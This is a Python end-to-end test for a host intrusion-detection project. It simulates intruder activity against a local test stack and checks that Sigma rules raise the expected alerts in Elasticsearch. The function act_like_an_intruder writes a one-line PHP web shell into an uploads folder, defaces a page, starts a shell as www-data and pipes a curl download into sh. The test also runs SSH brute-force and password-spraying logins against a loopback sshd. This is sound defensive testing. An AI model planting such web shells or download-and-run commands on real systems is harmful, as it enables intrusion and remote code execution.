"""The project's rules on real activity: a real agent and collector on the test stack, real files, processes
and sshd logins, and the alerts they raise found in Elasticsearch.

The agent watches a fresh web root under /var/www, runs its process sensor on the kernel's proc connector
and follows the log of an sshd started on a loopback port with ``-E LOGFILE`` (as in
``tests/e2e/test_sensors_login.py``). The collector loads ``rules/sigma`` unchanged: six failed logins for
six unknown users give twelve failure lines (sshd logs "Invalid user" and "Failed password" for each), enough
for the brute-force (ten failures) and password-spraying (five user names) correlations; a login that then
succeeds from the same address completes the correlation of a correlation (login after many failures).
"""

from __future__ import annotations

import asyncio
import os
import secrets
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.integration.collector_harness import REPO, CollectorRun, search
from tests.support.sshd import (
    account_name,
    create_account,
    needs_sshd,
    removed_afterwards,
    running_sshd,
    ssh_login,
)

RUNUSER = shutil.which("runuser")
RULES = REPO / "rules" / "sigma"

pytestmark = [
    pytest.mark.integration,
    pytest.mark.e2e,
    pytest.mark.timeout(240),
    pytest.mark.skipif(os.geteuid() != 0, reason="the agent's sensors, sshd and runuser need root"),
    needs_sshd,
    pytest.mark.skipif(RUNUSER is None, reason="needs runuser: apt-get install -y util-linux"),
]

EXPECTED = {
    "Script file created in a web root or upload directory",
    "Published web page or asset changed on a portal",
    "Document marked as a state secret on a networked server",
    "Web server user starts a shell or a network tool",
    "Download piped into a shell",
    "SSH brute force from one source",
    "SSH password spraying from one source",
    "SSH login succeeded after many failures",
    "Local user account creation command",
}


@pytest.fixture
def web_root() -> Iterator[Path]:
    root = Path("/var/www") / f"canhgac-e2e-{secrets.token_hex(4)}"
    (root / "uploads").mkdir(parents=True)
    (root / "index.html").write_text("<h1>Cổng thông tin điện tử</h1>\n")
    try:
        yield root
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def sshd(tmp_path: Path) -> Iterator[tuple[int, Path]]:
    with running_sshd(tmp_path, extra_config="MaxStartups 20\n") as listening:
        yield listening


def agent_config(run: CollectorRun, workdir: Path, web_root: Path, sshd_log: Path) -> Path:
    config = {
        "organization": {"id": "so-e2e", "name": "Sở thử nghiệm"},
        "system": {"name": "Cổng thông tin thử nghiệm", "security_level": 3},
        "kafka": run.kafka.config() | {"topic": run.events_topic},
        "state_dir": str(workdir / "agent-state"),
        "heartbeat": {"interval_s": 5},
        "sensors": {
            "file_integrity": {"paths": [str(web_root)], "rescan_interval_s": 3600},
            "process": {"enabled": True},
            "login": {"sources": [{"path": str(sshd_log), "program": "sshd"}], "poll_interval_s": 0.1},
        },
    }
    path = workdir / "agent.yaml"
    path.write_text(yaml.safe_dump(config, allow_unicode=True))
    return path


def start_agent(config: Path, log_path: Path) -> subprocess.Popen[bytes]:
    with log_path.open("ab") as log:
        return subprocess.Popen(
            [sys.executable, "-m", "agent.cli", "run", "--config", str(config)],
            cwd=REPO,
            stdout=log,
            stderr=subprocess.STDOUT,
            env={**os.environ, "PYTHONUNBUFFERED": "1"},
        )


@pytest.fixture
def account() -> Iterator[tuple[str, str]]:
    """A local account the test creates itself (the agent sees useradd run); removed afterwards."""
    name, password = account_name("cgrules")
    with removed_afterwards(name):
        yield name, password


async def wait_for_heartbeat(run: CollectorRun, timeout_s: float = 60) -> None:
    query = {"term": {"event.dataset": "canhgac.heartbeat"}}
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if await search(run.es, f"{run.prefix}events-*", query):
            return
        await asyncio.sleep(0.5)
    pytest.fail(f"no heartbeat from the agent reached Elasticsearch:\n{run.logs()}")


async def wait_for_alerts(run: CollectorRun, names: set[str], timeout_s: float) -> list[dict[str, Any]]:
    deadline = time.monotonic() + timeout_s
    alerts: list[dict[str, Any]] = []
    while time.monotonic() < deadline:
        alerts = await search(run.es, f"{run.prefix}alerts-*")
        if names <= {alert["rule"]["name"] for alert in alerts}:
            break
        await asyncio.sleep(1)
    return alerts


def act_like_an_intruder(web_root: Path) -> None:
    (web_root / "uploads" / "thumb.php").write_text('<?php system($_GET["c"]); ?>\n')
    (web_root / "index.html").write_text("<h1>Hacked by e2e</h1>\n")
    (web_root / "uploads" / "cong-van.txt").write_text("TUYỆT MẬT\nSố: 12/CV\n")
    assert RUNUSER is not None
    subprocess.run(
        [RUNUSER, "-u", "www-data", "--", "bash", "-c", "sleep 1; bash -i </dev/null"], check=False
    )
    pipeline = "curl -s --max-time 1 http://127.0.0.1:9/i.sh | sh; sleep 1"
    subprocess.run(["bash", "-c", pipeline], check=False, stderr=subprocess.DEVNULL)


async def test_real_activity_raises_the_projects_alerts(
    stack, tmp_path: Path, web_root: Path, sshd: tuple[int, Path], account: tuple[str, str]
) -> None:
    port, sshd_log = sshd
    user, password = account
    run = CollectorRun(stack.kafka, stack.es, RULES, tmp_path)
    await run.create_topics(partitions=2)
    run.start_collector()
    config = agent_config(run, tmp_path, web_root, sshd_log)
    agent = start_agent(config, tmp_path / "agent.log")
    try:
        await wait_for_heartbeat(run)
        await asyncio.sleep(2)  # the file sensor's first baseline of the web root
        act_like_an_intruder(web_root)
        create_account(user, password)
        guesses = [f"cgspray{n}{secrets.token_hex(2)}" for n in range(6)]
        results = await asyncio.gather(*(ssh_login(port, guess, "wrong-password") for guess in guesses))
        assert all(code != 0 for code in results)
        assert await ssh_login(port, user, password) == 0  # ...and then a password that works
        alerts = await wait_for_alerts(run, EXPECTED, timeout_s=90)
    finally:
        agent.send_signal(signal.SIGTERM)
        try:
            agent.wait(timeout=30)
        except subprocess.TimeoutExpired:
            agent.kill()
        run.stop_all()
    names = {alert["rule"]["name"] for alert in alerts}
    assert names >= EXPECTED, f"missing {EXPECTED - names}; got {names}\n{run.logs()}"
    by_name = {alert["rule"]["name"]: alert for alert in alerts}
    assert by_name["Script file created in a web root or upload directory"]["file"]["path"] == str(
        web_root / "uploads" / "thumb.php"
    )
    assert by_name["Web server user starts a shell or a network tool"]["user"]["name"] == "www-data"
    spraying = by_name["SSH password spraying from one source"]["canhgac"]["alert"]["correlation"]
    assert spraying["group_text"] == "source.ip=127.0.0.1"
    assert spraying["value"] >= 5
